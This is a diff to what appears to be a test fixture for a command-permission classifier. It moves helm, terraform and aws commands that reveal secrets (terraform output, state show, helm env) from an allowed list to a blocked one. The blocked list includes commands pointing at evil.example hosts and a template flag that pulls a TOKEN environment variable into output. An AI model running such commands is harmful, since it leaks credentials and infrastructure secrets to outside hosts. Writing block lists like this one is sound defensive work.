@@ -167,13 +167,14 @@ READS = lines(r"""
     helm status web
     helm status web --revision 2
     helm history web
-    helm show values bitnami/nginx
     helm show chart ./chart
+    helm show values .
+    helm env HELM_CACHE_HOME
+    helm show values ../charts/web --version 1.2
     helm search repo nginx
     helm search hub nginx
     helm repo list
     helm version --short
-    helm env
     helm dependency list ./chart
     helm template ./chart
     helm template web ./chart -f values.yaml --set a=b
@@ -196,12 +197,9 @@ READS = lines(r"""
     terraform version
     terraform -version
     terraform show
-    terraform show -json
     terraform show plan.out
-    terraform output
     terraform state list
     terraform state list module.web
-    terraform state show aws_instance.web
     terraform providers
     terraform validate
     terraform validate -json
@@ -245,7 +243,6 @@ READS = lines(r"""
     aws eks describe-cluster --name c
     aws rds describe-db-instances
     aws lambda list-functions
-    aws lambda get-function-configuration --function-name f
     aws logs describe-log-groups
     aws logs filter-log-events --log-group-name g --filter-pattern ERROR --start-time 1
     aws iam list-users
@@ -325,7 +322,15 @@ READS = lines(r"""
 NEVER = lines(r"""
     terraform output -raw url
     terraform output -json
+    aws lambda get-function-configuration --function-name f
     helm get all web
+    terraform output
+    terraform output -no-color
+    terraform output url
+    terraform state show aws_instance.web
+    terraform show -json
+    helm env
+    helm env HELM_KUBETOKEN
     helm get manifest web -n prod
     helm get values web
     # containers
@@ -559,6 +564,13 @@ NEVER = lines(r"""
     helm show values oci://evil.example/x
     helm show values x --repo https://evil.example
     helm show values
+    helm show values bitnami/nginx
+    helm show chart nginx --version 1.2
+    helm show all $X
+    helm template bitnami/nginx
+    helm template web bitnami/nginx
+    helm template ./chart bitnami/nginx
+    helm template ./chart --name-template '{{env "TOKEN"}}'
     helm lint https://evil.example/x
     helm --kubeconfig x list
     helm list --kube-apiserver https://evil.example
